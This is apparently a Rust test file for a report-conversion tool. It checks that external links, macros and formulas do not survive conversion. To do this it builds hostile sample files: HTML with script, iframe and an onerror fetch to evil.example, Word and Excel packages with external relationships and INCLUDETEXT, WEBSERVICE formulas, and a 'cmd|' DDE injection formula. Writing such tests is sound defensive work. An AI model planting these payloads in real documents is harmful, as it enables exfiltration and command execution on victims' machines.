//! Inputs that point outside or hold macros and formulas: nothing of it gets into an output.

use std::fs;

use repconv::formats::{Formats, ReadOptions};
use repconv::model::finding::Finding;
use repconv::model::report::Report;
use repconv::recognise::RecogniseOptions;
use tempfile::TempDir;

use super::{fixture, inspect, outputs, repacked, run};

const RELATION: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/// No output may name it, and none may hold a macro.
const OUTSIDE: &str = "evil.example";
const MACRO: &str = "EVILMACRO";

fn relation(kind: &str) -> String {
    format!(
        "<Relationship Id=\"rIdEvil{kind}\" Type=\"{RELATION}/{kind}\" \
         Target=\"http://evil.example/{kind}\" TargetMode=\"External\"/>"
    )
}

fn relations(kind: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><Relationships \
         xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{}</Relationships>",
        relation(kind)
    )
}

fn page() -> Vec<u8> {
    let page = String::from_utf8(fixture("reports/akto_2021/clean.html")).expect("UTF-8");
    let head = "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/a.css>\
                <script src=http://evil.example/a.js></script></head>";
    let body = "<iframe src=http://evil.example/f></iframe><img src=http://evil.example/i.png \
                onerror=fetch('http://evil.example/')><p><a href=http://evil.example/>本级政府</a></p></body>";
    page.replacen("</head>", head, 1).replacen("</body>", body, 1).into_bytes()
}

/// A document with a template, a picture and a link elsewhere, and a macro.
fn document() -> Vec<u8> {
    let edit = |name: &str, text: String| match name {
        "word/_rels/document.xml.rels" => {
            let outside = ["image", "hyperlink", "oleObject"].map(relation).concat();
            text.replacen("</Relationships>", &format!("{outside}</Relationships>"), 1)
        }
        "word/document.xml" => text.replacen(
            "<w:body>",
            &format!(
                "<w:body><w:p><w:hyperlink xmlns:r=\"{RELATION}\" r:id=\"rIdEvilhyperlink\"><w:r>\
                 <w:instrText>INCLUDETEXT \"http://evil.example/\"</w:instrText></w:r></w:hyperlink></w:p>"
            ),
            1,
        ),
        _ => text,
    };
    let template = relations("attachedTemplate");
    let more = [("word/_rels/settings.xml.rels", &*template), ("word/vbaProject.bin", MACRO)];
    repacked(&fixture("reports/akto_2021/lo.docx"), edit, &more)
}

/// A workbook whose first figure is this formula, with its value or without, and a link and a macro.
fn workbook(formula: &str, value: &str) -> Vec<u8> {
    let edit = |name: &str, text: String| {
        if name != "xl/worksheets/sheet2.xml" {
            return text;
        }
        let (before, after) = text.split_once("t=\"n\"><v>").expect("a figure");
        let (_, rest) = after.split_once("</v>").expect("its end");
        format!("{before}t=\"n\"><f>{formula}</f>{value}{rest}")
    };
    let link = relations("externalLinkPath");
    let more = [
        ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", &*link),
        ("xl/vbaProject.bin", MACRO),
    ];
    repacked(&fixture("reports/akto_2021/openpyxl.xlsx"), edit, &more)
}

/// A spreadsheet with a formula, a link and a picture elsewhere.
fn spreadsheet() -> Vec<u8> {
    const FIGURE: &str = "office:value-type=\"float\" office:value=\"0\"";
    let edit = |name: &str, text: String| {
        if name != "content.xml" {
            return text;
        }
        assert!(text.contains(FIGURE) && text.contains("<text:p>"));
        let formula = "table:formula=\"of:=WEBSERVICE(&quot;http://evil.example/&quot;)\"";
        let outside = "<text:a xlink:href=\"http://evil.example/\">本</text:a>\
                       <draw:frame><draw:image xlink:href=\"http://evil.example/i.png\"/></draw:frame>";
        text.replacen(FIGURE, &format!("{formula} {FIGURE}"), 1).replacen(
            "<text:p>",
            &format!("<text:p>{outside}"),
            1,
        )
    };
    repacked(&fixture("reports/akto_2021/lo.ods"), edit, &[("Basic/Standard/Module1.xml", MACRO)])
}

#[test]
fn nothing_outside_is_pointed_to_and_no_macro_is_kept() {
    let linked = workbook("[1]Sheet1!A1+'http://evil.example/[a.xlsx]S'!A1", "<v>7</v>");
    let inputs = [
        ("a.html", page()),
        ("a.docm", document()),
        ("a.xlsm", linked),
        ("a.ods", spreadsheet()),
        ("a.xls", fixture("injection/formula_and_link.xls")),
    ];
    let folder = TempDir::new().expect("folder");
    let mut faults = Vec::new();
    for (name, bytes) in inputs {
        fs::write(folder.path().join(name), bytes).expect("input");
        for (made, more) in [
            ("o.docx", &[][..]),
            ("house.docx", &["--reference-doc", "a.docm"]),
            ("o.xlsx", &[]),
            ("o.html", &[]),
            ("o.txt", &["--encoding", "utf-8"]),
            ("o.json", &[]),
        ] {
            if made == "house.docx" && name != "a.docm" {
                continue;
            }
            let options = [&[name, made, "--overwrite", "--lossy"], more].concat();
            run(folder.path(), &options);
            let bytes = fs::read(folder.path().join(made)).expect("output");
            faults
                .extend(outputs::faults(made, &bytes).into_iter().map(|fault| format!("{name} to {fault}")));
            for (part, text) in inspect::parts(&bytes) {
                let lower = format!("{part} {text}").to_lowercase();
                let outside = [
                    OUTSIDE,
                    "targetmode=\"external\"",
                    "externallink",
                    "vbaproject",
                    "evilmacro",
                    "webservice",
                    "includetext",
                ];
                let held = outside.iter().filter(|held| lower.contains(**held));
                faults.extend(held.map(|held| format!("{name} to {made} {part}: {held}")));
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

fn read(bytes: &[u8]) -> (Report, Vec<Finding>) {
    let formats = Formats::builtin();
    let format = formats.detect(bytes, Some("xlsx")).expect("format");
    repconv::read(bytes, format, &ReadOptions::default(), &RecogniseOptions::default()).expect("a report")
}

/// A formula without a value is reported and stays the text that it is.
#[test]
fn no_formula_of_an_input_is_computed() {
    let folder = TempDir::new().expect("folder");
    for formula in ["1+1", "cmd|'/C calc'!A0", "WEBSERVICE(&quot;http://evil.example/&quot;)"] {
        let bytes = workbook(formula, "");
        let (report, findings) = read(&bytes);
        let is_reported =
            |finding: &&Finding| finding.rule.code == "R003" && finding.message.en.contains("formula");
        assert!(findings.iter().any(|finding| is_reported(&finding)), "{formula}: {findings:?}");
        let shown = format!("={}", formula.replace("&quot;", "\""));
        let cells = report.cells.values().filter(|cell| cell.value.shown() == shown);
        assert!(cells.filter(|cell| cell.value.number().is_none()).count() == 1, "{formula}");

        fs::write(folder.path().join("a.xlsx"), bytes).expect("input");
        run(folder.path(), &["a.xlsx", "o.xlsx", "--overwrite"]);
        let parts = inspect::parts(&fs::read(folder.path().join("o.xlsx")).expect("output"));
        let sheets = parts.iter().filter(|(name, _)| name.starts_with("xl/worksheets/sheet"));
        for element in sheets.flat_map(|(_, text)| inspect::xml(text)).filter(|element| element.name == "f") {
            let held = ["cmd", "WEBSERVICE", "1+1"].iter().find(|held| element.text.contains(**held));
            assert_eq!(held, None, "{formula}: {}", element.text);
        }
    }
}
